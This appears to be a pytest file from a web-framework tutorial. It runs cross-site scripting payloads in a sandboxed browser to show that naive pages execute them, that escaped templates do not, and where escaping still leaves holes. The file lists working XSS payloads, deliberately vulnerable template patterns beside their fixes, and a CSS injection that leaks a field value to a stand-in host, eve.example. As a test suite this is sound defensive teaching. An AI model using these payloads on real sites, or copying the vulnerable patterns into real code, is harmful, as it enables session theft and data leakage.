"""The payloads of step 11, tried in a browser: only a browser knows what runs."""

from importlib.util import module_from_spec, spec_from_file_location

import pytest
import step10_config
import step11_templating

from costrel.core.ladder import find_root

HERE = "http://wren.example/"
# how the pages of step 10 were made: the places that the payloads were written for
NAIVE = {
    "text": "<p>{x}</p>",
    "attribute": '<input value="{x}">',
    "url": '<a href="/songs?bird={x}">',
    "script": '<script>const bird = "{x}"</script>',
    "style": "<style>p {{ color: {x} }}</style>",
}
# where step 11 does not protect: the place, a payload, and the place fixed
HOLES = {
    "unquoted": (
        "<input value={{ x }}>",
        "x autofocus onfocus=alert(1)",
        '<input value="{{ x }}">',
    ),
    "address": (
        '<a href="{{ x }}">Ring</a>',
        "javascript:alert(1)",
        '<a href="{{ x if x.startswith("https://") else "#" }}">Ring</a>',
    ),
    "handler": (
        "<script>function ring() {}</script>"
        "<button onclick=\"ring('{{ x }}')\">Ring</button>",
        "');alert(1)//",
        "<button onclick='ring({{ x|tojson }})'>Ring</button>",
    ),
    "script": (
        "<script>const bird = `{{ x }}`</script>",
        "${alert(1)}",
        "<script>const bird = {{ x|tojson }}</script>",
    ),
    "page in an attribute": (
        '<iframe srcdoc="{{ x }}"></iframe>',
        "<script>alert(1)</script>",
        '<iframe srcdoc="{{ x|e|forceescape }}"></iframe>',
    ),
    "safe": (
        "<p>{{ x|safe }}</p>",
        "<img src=x onerror=alert(1)>",
        "<p>{{ x }}</p>",
    ),
}


@pytest.fixture(scope="module")
def xss():
    path = find_root() / "tests" / "step11_templating" / "test_xss.py"
    spec = spec_from_file_location("xss_of_step_11", path)
    module = module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


# in each frame, and in frames inside it: tell the top window which frame it was
REPORT = """
window.alert = () => {
  let frame = window;
  while (frame !== top && frame.parent !== top) frame = frame.parent;
  top.ran.add(Number(frame.name));
};
if (window === top) window.ran = new Set();
"""
# one frame for each page; the visitor also clicks, and focuses its fields
OPEN = """
async pages => {
  const frames = pages.map((page, number) => {
    const frame = document.createElement("iframe");
    frame.name = number;
    frame.srcdoc = page;
    document.body.append(frame);
    return frame;
  });
  const loaded = frame => new Promise(done => {
    frame.onload = done;
    setTimeout(done, 2000);
  });
  await Promise.all(frames.map(loaded));
  for (const frame of frames) {
    frame.contentDocument.querySelector("[autofocus]")?.focus();
    frame.contentDocument.querySelector("a[href^='javascript:'], button")?.click();
  }
  const all = () => ran.size === pages.length;
  for (let turn = 0; turn < 20 && !all(); turn++)
    await new Promise(done => setTimeout(done, 20));
  return [...ran];
}
"""


@pytest.fixture
def run(browser):
    """Return a function that opens pages and returns those that ran a script."""
    context = browser.new_context()
    context.add_init_script(REPORT)
    # no other request leaves the browser, such as one for a missing picture
    blank = {"body": "<!doctype html>", "content_type": "text/html"}
    context.route(
        "**/*",
        lambda route: (
            route.fulfill(**blank) if route.request.url == HERE else route.abort()
        ),
    )

    def run_them(pages):
        page = context.new_page()
        page.goto(HERE)
        return set(page.evaluate(OPEN, pages))

    yield run_them
    context.close()


def visited(package, view):
    """Return the page that an app of some step sends."""
    app = package.App("wren")
    app.testing = True
    app.add_url_rule("/", "index", view)
    app.add_url_rule("/songs", "songs", lambda: "")
    return app.test_client().get("/").text


def page_of_step_10(place, x):
    return visited(step10_config, lambda: NAIVE[place].format(x=x))


def page_of_step_11(source, **values):
    render = step11_templating.render_template_string
    return visited(step11_templating, lambda: render(source, **values))


def test_guest_book_of_step_10_pops_a_dialog_and_that_of_step_11_does_not(browser):
    name = "<img src=x onerror=\"alert('bim')\">"
    naive = page_of_step_10("text", name)
    escaped = page_of_step_11("<p>{{ x }}</p>", x=name)
    page = browser.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.accept()))
    try:
        page.set_content(escaped)
        page.wait_for_timeout(100)
        before = list(dialogs)
        shown = page.inner_text("p")
        with page.expect_event("dialog"):
            page.set_content(naive)
    finally:
        page.close()

    assert (before, shown) == ([], name)
    assert dialogs == ["bim"]


def test_each_payload_runs_in_a_page_of_step_10(run, xss):
    hostile = [(place, p) for place in NAIVE for p in xss.PAYLOADS[place]]

    ran = run([page_of_step_10(place, payload) for place, payload in hostile])

    assert [hostile[n] for n in range(len(hostile)) if n not in ran] == []


def test_none_runs_in_a_page_of_step_11(run, xss):
    places = list(xss.PROTECTED)
    loop = "{{% for x in each %}}{}{{% endfor %}}"

    ran = run(
        [
            page_of_step_11(loop.format(xss.PROTECTED[place]), each=xss.EACH)
            for place in places
        ]
    )

    assert [places[number] for number in ran] == []


def test_holes_are_real_and_can_be_fixed(run):
    holes = list(HOLES.values())

    ran = run([page_of_step_11(source, x=payload) for source, payload, _ in holes])
    still = run([page_of_step_11(fixed, x=payload) for _, payload, fixed in holes])

    assert ran == set(range(len(holes)))
    assert still == set()


def test_style_sheet_can_read_a_field_of_its_page(browser):
    # nothing in it is escaped, and no script runs
    rule = "red} input[value^=h]{background:url(http://eve.example/h)"
    page = browser.new_page()
    page.route("**/*", lambda route: route.abort())
    source = "<style>p {{ color: {{{{ x }}}} }}</style><input value={value!r}>"
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    try:
        for value in ["hunter2", "other"]:
            page.set_content(page_of_step_11(source.format(value=value), x=rule))
            page.wait_for_timeout(100)
    finally:
        page.close()

    assert asked == ["http://eve.example/h"]
